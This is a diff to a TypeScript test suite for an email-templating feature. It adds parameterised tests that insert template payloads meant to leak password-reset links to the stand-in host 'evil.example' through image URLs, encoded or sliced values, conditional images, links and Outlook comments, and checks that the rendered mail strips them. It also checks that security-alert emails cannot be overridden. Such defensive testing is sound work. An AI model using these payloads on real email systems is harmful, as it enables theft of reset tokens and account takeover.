@@ -52,14 +52,14 @@ const texts = {
 const withLink =
   '<mj-section><mj-column><mj-text>{{ title }}, {{ text }}</mj-text><mj-button href="{{ url }}">{{ button }}</mj-button></mj-column></mj-section>'
 let number = 0
-async function write(body: string | null, event_alias = 'password-link') {
+async function write(body: string | null, event_alias = 'password-link', words = texts) {
   const template = body
     ? await admin.call(messagingContract.addTemplate, {
         body: { name: `T ${++number}`, subject: '{{ subject }}', body },
       })
     : null
   const made = await admin.call(messagingContract.addEmailLocalisation, {
-    body: { event_alias, texts, template_id: template?.data.id ?? null },
+    body: { event_alias, texts: words, template_id: template?.data.id ?? null },
   })
   expect(made.status).toBe(201)
 }
@@ -120,6 +120,43 @@ describe('a mail of the product', () => {
     const everything = JSON.stringify(await app.db.selectFrom('sent_messages').selectAll().execute())
     expect(everything).toContain('••••••')
     expect(everything).not.toMatch(/#reset=/)
+  })
+
+  const beside = (more: string) => withLink.replace('<mj-button', `${more}<mj-button`)
+  const evil = 'https://evil.example/p.gif?u='
+  test.each([
+    ['in the address of a picture', beside(`<mj-image src="${evil}{{ url }}"/>`)],
+    ['written another way', beside(`<mj-image src="${evil}{{ url | url_encode }}"/>`)],
+    ['in parts', beside(`<mj-image src="${evil}{{ url | slice: -20, 20 }}"/>`)],
+    [
+      'by a picture that is there or not',
+      beside('{% if url contains "A" %}<mj-image src="https://evil.example/a"/>{% endif %}'),
+    ],
+    ['in a link to another place', beside(`<mj-text><a href="${evil}{{ url }}">Here</a></mj-text>`)],
+    ['as an address to be pressed', beside(`<mj-text>${evil}{{ url }}</mj-text>`)],
+    ['in a comment for one program', beside('<mj-raw><!--[if mso]><img src="{{ url }}"><![endif]--></mj-raw>')],
+  ])('a link that opens an account is told to nobody else: %s', async (_what, body) => {
+    await write(body)
+    const mail = await linkFor('en')
+    expect(mail.subject).toBe('Set a new password')
+    expect(mail.source).not.toContain('evil.example')
+  })
+
+  test('an alarm says what was changed, when and from where, whatever was written for it', async () => {
+    await write('<mj-section><mj-column><mj-text>{{ text }}</mj-text></mj-column></mj-section>', 'credential-changed', {
+      subject: both('Newsletter'),
+      title: both('Hello'),
+      text: both('Nothing new'),
+      button: both('Open'),
+    })
+    const user = await app.people.designer()
+    const email = `alarmed-${user.id}@mail.example`
+    await app.db.updateTable('users').set({ email }).where('id', '=', user.id).execute()
+    await admin.call(usersContract.update, { params: { id: user.id }, body: { email: `new-${email}` } })
+    await app.drainJobs()
+    const mails = received.filter(({ to }) => to.endsWith(email))
+    expect(mails.length).toBeGreaterThan(0)
+    for (const { source } of mails) expect(partsOf(source)).not.toMatchObject({ subject: 'Newsletter' })
   })
 
   test('is in our own words where nothing was written, or no template was chosen', async () => {
